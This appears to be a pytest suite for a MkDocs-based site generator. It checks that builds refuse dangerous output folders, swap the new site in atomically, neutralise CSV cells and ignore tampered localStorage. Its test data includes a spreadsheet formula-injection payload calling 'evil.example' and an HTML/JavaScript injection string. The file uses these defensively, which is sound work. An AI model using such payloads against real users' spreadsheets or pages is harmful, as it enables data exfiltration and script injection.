"""No harm from what the build writes or what the site publishes (issue 12).

- The build never replaces a folder it could destroy: the project, a folder
  holding it, its source folders, a symbolic link, an existing folder no build
  made. Refusals come before anything is read or written (exit 2).
- The swap of the new site into place is one atomic exchange; killed builds'
  staging folders are cleaned up; two builds into one folder do not overlap.
- No CSV cell runs as a spreadsheet formula.
- A tampered localStorage value cannot break or inject into a page.

The build tests replace MkDocs and the data load with fakes, so they take
milliseconds; the browser test uses the session's real build.
"""

from __future__ import annotations

import contextlib
import csv
import fcntl
import hashlib
import importlib.util
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from mkdocs.exceptions import MkDocsException

from generator import build as gb
from generator.engine import BuildFailed
from generator.site import downloads

PROJECT = Path(__file__).resolve().parent.parent


def _load_site_build():
    spec = importlib.util.spec_from_file_location("site_build_under_test", PROJECT / "site_build.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


site_build = _load_site_build()


# ---- fakes and helpers ---------------------------------------------------------------

def tree_digest(folder: Path) -> str:
    """A hash of every path, file content and symlink target under `folder` (itself included)."""
    h = hashlib.sha256()
    for path in sorted([folder, *folder.rglob("*")]):
        h.update(str(path.relative_to(folder.parent)).encode() + b"\0")
        if path.is_symlink():
            h.update(b"link:" + os.readlink(path).encode())
        elif path.is_file():
            h.update(path.read_bytes())
        h.update(b"\0")
    return h.hexdigest()


class FakeBuild:
    """Stands in for the data load, the generate and render stages and finish; records what ran."""

    def __init__(self, page: str = "new site", fail: bool = False):
        self.page, self.fail, self.built, self.loaded = page, fail, [], []

    def load_dataset(self, root):
        self.loaded.append(root)
        return SimpleNamespace(cities=[])

    def build_part(self, root, tree, out, share, config_file, jobs, workers, engine_name):
        return []

    def finish(self, parts, site, links=True, cache=None):
        site = Path(site)
        self.built.append(site)
        (site / "index.html").write_text(self.page, encoding="utf-8")
        if self.fail:
            raise BuildFailed("a broken link (fake)")


@pytest.fixture
def fake(monkeypatch):
    build = FakeBuild()
    monkeypatch.setattr(gb, "load_dataset_cached", build.load_dataset)
    monkeypatch.setattr(gb, "_build_part", build.build_part)
    monkeypatch.setattr(gb.engine, "shard_workers", lambda jobs, engine_name: contextlib.nullcontext())  # no render
    monkeypatch.setattr(gb, "finish", build.finish)
    return build


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A small stand-in project (site_build.ROOT points at it), the current folder."""
    root = tmp_path / "project"
    for name, text in {"data/cities/a/city.yml": "id: a\n", "content/index.md": "# home\n", "generator/x.py": "",
                       "theme/main.html": "", "tests/test_x.py": "", ".git/HEAD": "ref: refs/heads/main\n",
                       "deploy/nginx.conf": "", "notes.txt": "uncommitted work\n"}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    monkeypatch.setattr(site_build, "ROOT", root)
    monkeypatch.chdir(root)
    return root


def previous_site(folder: Path, marked: bool = True) -> Path:
    folder.mkdir(parents=True)
    (folder / "index.html").write_text("previous site", encoding="utf-8")
    (folder / "old.html").write_text("only in the previous site", encoding="utf-8")
    if marked:
        (folder / gb.MARKER).write_text(gb.MARKER_TEXT, encoding="utf-8")
    return folder


def run_build(site_dir, capsys) -> tuple[int, str]:
    status = site_build.main(["build", "--site-dir", str(site_dir)])
    return status, capsys.readouterr().err


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".building-" in p.name or ".old-" in p.name)


# ---- 1. folders a build must not replace --------------------------------------------

REFUSED = {
    ".": "contains, the project",
    "..": "contains, the project",
    "data": "inside the project's own folder data/",
    "content/x": "inside the project's own folder content/",
    ".git": "inside the project's own folder .git/",
    "site/../generator": "inside the project's own folder generator/",
    "notes.txt": "inside the project's own folder",
}


@pytest.mark.unit
@pytest.mark.parametrize("site_dir", list(REFUSED))
def test_project_folders_are_refused_before_anything_runs(project, fake, capsys, site_dir):
    site = previous_site(project / "site")
    before_project, before_site = tree_digest(project), tree_digest(site)
    status, err = run_build(site_dir, capsys)
    assert status == 2
    assert "拒绝构建到" in err and "refusing to build into" in err and REFUSED[site_dir] in err
    assert str((project / site_dir).resolve()) in err  # names the folder
    assert "Traceback" not in err
    assert fake.loaded == [] and fake.built == []  # refused before validating or building
    assert tree_digest(project) == before_project and tree_digest(site) == before_site
    assert leftovers(project) == leftovers(project.parent) == []


@pytest.mark.unit
def test_an_existing_folder_no_build_made_is_refused(project, fake, capsys, tmp_path):
    other = tmp_path / "photos"
    other.mkdir()
    (other / "holiday.jpg").write_bytes(b"\xff\xd8 precious")
    before = tree_digest(other)
    status, err = run_build(other, capsys)
    assert status == 2 and f"{other}" in err and gb.MARKER in err
    assert "不是以前的构建结果" in err and "was not made by a previous build" in err
    assert fake.loaded == [] and tree_digest(other) == before


@pytest.mark.unit
def test_a_marker_with_other_text_or_a_symlinked_marker_does_not_count(tmp_path):
    forged = previous_site(tmp_path / "forged", marked=False)
    (forged / gb.MARKER).write_text("anything\n", encoding="utf-8")
    linked = previous_site(tmp_path / "linked", marked=False)
    (tmp_path / "real-marker").write_text(gb.MARKER_TEXT, encoding="utf-8")
    (linked / gb.MARKER).symlink_to(tmp_path / "real-marker")
    for folder in (forged, linked):
        with pytest.raises(gb.SiteDirRefused):
            gb.check_site_dir(folder)


@pytest.mark.unit
def test_a_symlink_is_refused_even_to_a_built_site(project, fake, capsys, tmp_path):
    site = previous_site(tmp_path / "real-site")
    link = tmp_path / "site-link"
    link.symlink_to(site)
    before = tree_digest(site)
    status, err = run_build(link, capsys)
    assert status == 2 and "symbolic link" in err and "符号链接" in err and str(link) in err
    assert link.is_symlink() and tree_digest(site) == before and fake.built == []


@pytest.mark.unit
def test_a_file_is_refused(project, fake, capsys, tmp_path):
    file = tmp_path / "site.html"
    file.write_text("x", encoding="utf-8")
    status, err = run_build(file, capsys)
    assert status == 2 and "not a folder" in err and file.read_text(encoding="utf-8") == "x"


@pytest.mark.unit
@pytest.mark.parametrize("site_dir", [".", "..", "/", "data", "content/x", ".git", ".venv", "node_modules/x",
                                      "generator", "theme/site", "tests", "deploy", "bench", "tools"])
def test_the_real_project_is_protected(monkeypatch, site_dir):
    monkeypatch.chdir(PROJECT)
    with pytest.raises(gb.SiteDirRefused):
        gb.check_site_dir(Path(site_dir))


@pytest.mark.unit
@pytest.mark.parametrize("site_dir", ["site", "build/site", "new-output/site"])
def test_new_output_folders_in_the_project_are_accepted(monkeypatch, site_dir):
    monkeypatch.chdir(PROJECT)
    if (PROJECT / site_dir).exists() and any((PROJECT / site_dir).iterdir()) and not gb.is_marked(PROJECT / site_dir):
        pytest.skip(f"{site_dir} holds a site built before the marker existed")
    assert gb.check_site_dir(Path(site_dir)) == PROJECT / site_dir


@pytest.mark.unit
def test_the_real_command_refuses_the_project_in_milliseconds(monkeypatch, capsys):
    """`site_build.py build --site-dir .` in the real project: refused, the project untouched."""
    def must_not_swap(new, target):
        raise AssertionError(f"would have replaced {target}")
    monkeypatch.setattr(gb, "_swap", must_not_swap)
    monkeypatch.setattr(gb, "load_dataset_cached", lambda root: pytest.fail("validated before refusing"))
    monkeypatch.chdir(PROJECT)
    listing = sorted(os.listdir(PROJECT)), sorted(os.listdir(PROJECT.parent))
    status = _load_site_build().main(["build", "--site-dir", "."])
    assert status == 2 and "refusing to build into" in capsys.readouterr().err
    assert (sorted(os.listdir(PROJECT)), sorted(os.listdir(PROJECT.parent))) == listing


# ---- 2. replacing a built site ------------------------------------------------------------

@pytest.mark.unit
def test_a_marked_previous_site_is_replaced_and_the_new_one_marked(project, fake, capsys, tmp_path):
    site = previous_site(tmp_path / "out" / "site")
    status, _ = run_build(site, capsys)
    assert status == 0
    assert sorted(p.name for p in site.iterdir()) == [gb.MARKER, "index.html"]
    assert (site / "index.html").read_text(encoding="utf-8") == "new site"
    assert (site / gb.MARKER).read_text(encoding="utf-8") == gb.MARKER_TEXT  # fixed text: builds stay reproducible
    assert leftovers(site.parent) == []


@pytest.mark.unit
@pytest.mark.parametrize("exists", ["missing", "empty"])
def test_a_new_or_empty_folder_is_built_into(project, fake, capsys, tmp_path, exists):
    site = tmp_path / "new" / "site"
    if exists == "empty":
        site.mkdir(parents=True)
    assert run_build(site, capsys)[0] == 0
    assert gb.is_marked(site) and (site / "index.html").is_file()


@pytest.mark.unit
def test_a_failing_build_leaves_the_previous_site_and_no_staging_folder(project, fake, capsys, tmp_path):
    site = previous_site(tmp_path / "site")
    before = tree_digest(site)
    fake.fail = True
    status, err = run_build(site, capsys)
    assert status == 1 and "构建失败 / build failed" in err and "Traceback" not in err
    assert fake.built and tree_digest(site) == before
    assert leftovers(tmp_path) == []


@pytest.mark.unit
def test_the_swap_is_one_exchange_on_linux(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir(), b.mkdir()
    (a / "new").touch(), (b / "old").touch()
    if not gb._exchange(a, b):
        pytest.skip("this system or filesystem has no renameat2 RENAME_EXCHANGE (the two-rename fallback is used)")
    assert [p.name for p in b.iterdir()] == ["new"] and [p.name for p in a.iterdir()] == ["old"]


@pytest.mark.unit
def test_the_two_rename_fallback_also_replaces_the_site(project, fake, capsys, tmp_path, monkeypatch):
    monkeypatch.setattr(gb, "_exchange", lambda a, b: False)
    site = previous_site(tmp_path / "site")
    assert run_build(site, capsys)[0] == 0
    assert (site / "index.html").read_text(encoding="utf-8") == "new site" and not (site / "old.html").exists()
    assert leftovers(tmp_path) == []


@pytest.fixture
def live_pid():
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    yield proc.pid
    proc.kill()
    proc.wait()


def dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


@pytest.mark.unit
def test_staging_folders_of_killed_builds_are_removed_and_nothing_else(project, fake, capsys, tmp_path, live_pid):
    site = previous_site(tmp_path / "site")
    dead = dead_pid()
    names = {
        f".site.building-{dead}": False, f".site.old-{dead}": False,  # a killed build's: removed
        f".site.building-{live_pid}": True,  # a running process's: kept
        ".site.building-abc": True, f".site.building-{dead}.bak": True, f".other.building-{dead}": True,
        f"site.building-{dead}": True, ".site.building-0": True,  # not the exact pattern: kept
    }
    for name in names:
        (tmp_path / name).mkdir()
        (tmp_path / name / "page.html").touch()
    (tmp_path / f".site.building-{dead}-file").write_text("a file", encoding="utf-8")
    assert run_build(site, capsys)[0] == 0
    for name, kept in names.items():
        assert (tmp_path / name).exists() == kept, name
    assert (tmp_path / f".site.building-{dead}-file").exists()


@pytest.mark.unit
def test_a_symlink_named_like_a_staging_folder_is_not_followed(project, fake, capsys, tmp_path):
    site = previous_site(tmp_path / "site")
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "keep.txt").write_text("keep", encoding="utf-8")
    (tmp_path / f".site.building-{dead_pid()}").symlink_to(precious)
    assert run_build(site, capsys)[0] == 0
    assert (precious / "keep.txt").read_text(encoding="utf-8") == "keep"


@pytest.mark.unit
def test_a_second_build_into_the_same_folder_is_told_to_wait(project, fake, capsys, tmp_path):
    site = previous_site(tmp_path / "site")
    before = tree_digest(site)
    with open(tmp_path / ".site.lock", "w") as held:  # another build's lock
        fcntl.flock(held, fcntl.LOCK_EX)
        status, err = run_build(site, capsys)
    assert status == 1 and "another build is writing" in err and "另一个构建" in err
    # The data was validated (that writes nothing, and a refusal then leaves no lock file behind);
    # nothing was built while the other build held the folder.
    assert fake.built == [] and tree_digest(site) == before
    assert run_build(site, capsys)[0] == 0  # once it is released


# ---- 3. CSV cells never run as formulas ---------------------------------------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.unit
@pytest.mark.parametrize("text,expected", [
    ('=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'),
    ("+1+1", "'+1+1"), ("-3.5", "'-3.5"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("95%", "95%"), ("应保尽保", "应保尽保"), ("", ""), ("'quoted", "'quoted"), (" =1", " =1"),
])
def test_text_that_starts_like_a_formula_gets_a_quote(text, expected):
    assert downloads.neutralise_cell(text) == expected


@pytest.mark.unit
@given(st.text())
def test_neutralising_any_text_is_safe_and_reversible(text):
    cell = downloads.neutralise_cell(text)
    assert not cell.startswith(DANGEROUS)
    restored = cell[1:] if cell != text else cell
    assert restored == text and (cell == text or cell == "'" + text)


def _parse(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def _row(**values) -> dict:
    row = {f.name: None for f in downloads.FIELDS}
    row.update(values)
    return row


@pytest.mark.unit
def test_numbers_stay_numbers_by_column_type_and_text_is_neutralised():
    row = _row(value=-3.5, aspiration=-1, year=2025, cumulative=True, name_zh="-3.5",
               source_quote='=HYPERLINK("http://evil.example","x")', printed="@cmd")
    [parsed] = _parse(downloads.to_csv([row]))
    assert parsed["value"] == "-3.5" and parsed["aspiration"] == "-1" and parsed["year"] == "2025"
    assert parsed["cumulative"] == "true"
    assert parsed["name_zh"] == "'-3.5"  # a string column: text, whatever it looks like
    assert parsed["source_quote"] == '\'=HYPERLINK("http://evil.example","x")' and parsed["printed"] == "'@cmd"
    assert parsed["unit_zh"] == ""


@pytest.mark.unit
def test_text_in_a_number_column_is_still_neutralised():
    [parsed] = _parse(downloads.to_csv([_row(value="=1+1")]))
    assert parsed["value"] == "'=1+1"


TEXT_FIELDS = [f.name for f in downloads.FIELDS if f.type == "string"]


@pytest.mark.unit
@given(st.dictionaries(st.sampled_from(TEXT_FIELDS), st.text(st.characters(exclude_categories=["Cs"]))),
       st.floats(allow_nan=False, allow_infinity=False))
def test_no_cell_of_a_written_csv_starts_like_a_formula(texts, number):
    [parsed] = _parse(downloads.to_csv([_row(value=number, **texts)]))
    for name, text in texts.items():
        cell = parsed[name]
        assert not cell.startswith(DANGEROUS)
        assert (cell[1:] if cell != text else cell) == text
    assert float(parsed["value"]) == number


@pytest.mark.unit
def test_every_published_csv_is_neutral_and_the_data_package_says_so():
    from generator.data.validate import load_dataset

    files = downloads.all_files(load_dataset(PROJECT / "tests" / "fixtures" / "good"))
    csvs = [text for path, text in files.items() if path.endswith(".csv")]
    assert len(csvs) >= 3  # per indicator, per city, the whole site
    for text in csvs:
        for row in _parse(text):
            assert not any(cell.startswith(DANGEROUS) for name, cell in row.items() if name not in ("value", "aspiration"))
    package = json.loads(files[downloads.PACKAGE])
    assert all("'" in r["description"] for r in package["resources"] if r["format"] == "csv")


# ---- 5. tampered localStorage --------------------------------------------------------

TAMPERED = ['"><img src=x onerror=window.__pwned=1>', "__proto__", "constructor", "x" * 300_000,
            'shangrao"]', "SHANGRAO", "shangrao "]


def _page_with_storage(browser, values: dict[str, str]):
    """A page whose localStorage holds `values` before any of the site's scripts runs."""
    from browsing import open_page

    page = open_page(browser)
    page.context.add_init_script("".join(f"localStorage.setItem({json.dumps(k)}, {json.dumps(v)});"
                                         for k, v in values.items()))
    return page


@pytest.mark.browser
@pytest.mark.parametrize("path", ["/", "/finder/", "/en/"])
@pytest.mark.parametrize("value", TAMPERED, ids=["html", "proto", "constructor", "huge", "selector", "case", "space"])
def test_tampered_storage_is_ignored_and_forgotten(browser, site_server, path, value):
    from browsing import assert_clean

    page = _page_with_storage(browser, {"psc-city": value, "psc-large-text": value})
    try:
        page.goto(f"{site_server}{path}")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("localStorage.getItem('psc-city')") is None
        assert page.evaluate("localStorage.getItem('psc-large-text')") is None
        assert page.evaluate("document.documentElement.classList.contains('large-text')") is False
        assert page.evaluate("window.__pwned") is None and page.locator("img[src=x]").count() == 0
        # No city remembered: every city's links are shown (on the home page) and none is ticked (finder).
        assert page.locator("[data-chooser] [data-city][hidden]").count() == 0
        assert page.locator("input[name=city]:checked").count() == 0
        assert_clean(page)
    finally:
        page.context.close()


@pytest.mark.browser
def test_a_valid_remembered_city_is_still_honoured(browser, site_server):
    from browsing import assert_clean

    page = _page_with_storage(browser, {"psc-city": "yichun", "psc-large-text": "1"})
    try:
        page.goto(f"{site_server}/")
        shown = page.evaluate("[...document.querySelectorAll('[data-chooser] [data-city]')]"
                              ".filter(s => !s.hidden).map(s => s.getAttribute('data-city'))")
        assert shown == ["yichun"]
        assert page.evaluate("document.documentElement.classList.contains('large-text')") is True
        page.goto(f"{site_server}/finder/")
        assert page.is_checked("input[name=city][value=yichun]")
        assert_clean(page)
    finally:
        page.context.close()


# ---- with the real engine -------------------------------------------------------------

@pytest.mark.build
def test_a_real_build_into_the_projects_site_folder_passes_the_engines_own_check(tmp_path):
    """build_site's staging and work folders sit in the project beside site/ and are not refused."""
    from helpers import GOOD

    root = tmp_path / "project"
    import shutil

    shutil.copytree(GOOD, root)
    gb.build_site(root, root / "site", check_links=False)
    assert (root / "site" / "index.html").is_file() and gb.is_marked(root / "site")
    assert not list(root.glob(".site.building-*")) and not list(root.glob(".site.work-*"))


@pytest.mark.build
def test_plain_mkdocs_build_into_data_is_refused_and_data_kept(tmp_path, caplog):
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config

    from helpers import GOOD

    root = tmp_path / "project"
    import shutil

    shutil.copytree(GOOD, root)
    before = tree_digest(root / "data")
    # mkdocs.yml's guard hook refuses every plain build, before MkDocs empties its output folder.
    config = load_config(str(gb.PROJECT / "mkdocs.yml"), site_dir=str(root / "data"))
    with pytest.raises(MkDocsException):  # MkDocs reports the hook's PluginError, then aborts
        mkdocs_build(config)
    assert "site_build.py build" in caplog.text
    assert tree_digest(root / "data") == before


@pytest.mark.unit
def test_the_generated_tree_is_kept_beside_the_site_only_in_a_folder_the_builds_made(tmp_path):
    """Builds generate into `.<name>.tree/tree` beside the site, kept for the next build (which
    rewrites only what changed): a folder of that name without the builds' marker, or a link,
    is left alone and the build generates into its own work folder instead."""
    site, work = tmp_path / "site", tmp_path / ".site.work-1"
    kept = gb._kept_tree(site, work)
    assert kept == tmp_path / ".site.tree" / "tree"
    assert gb.is_marked(tmp_path / ".site.tree", gb.TREE_MARKER, gb.TREE_MARKER_TEXT)
    assert gb._kept_tree(site, work) == kept  # the next build: the same

    other = tmp_path / "other"
    (tmp_path / ".other.tree").mkdir()
    (tmp_path / ".other.tree" / "notes.txt").write_text("someone's", encoding="utf-8")
    assert gb._kept_tree(other, work) == work / "tree"
    assert [p.name for p in (tmp_path / ".other.tree").iterdir()] == ["notes.txt"]

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / ".linked.tree").symlink_to(elsewhere)
    assert gb._kept_tree(tmp_path / "linked", work) == work / "tree"
    assert not any(elsewhere.iterdir())
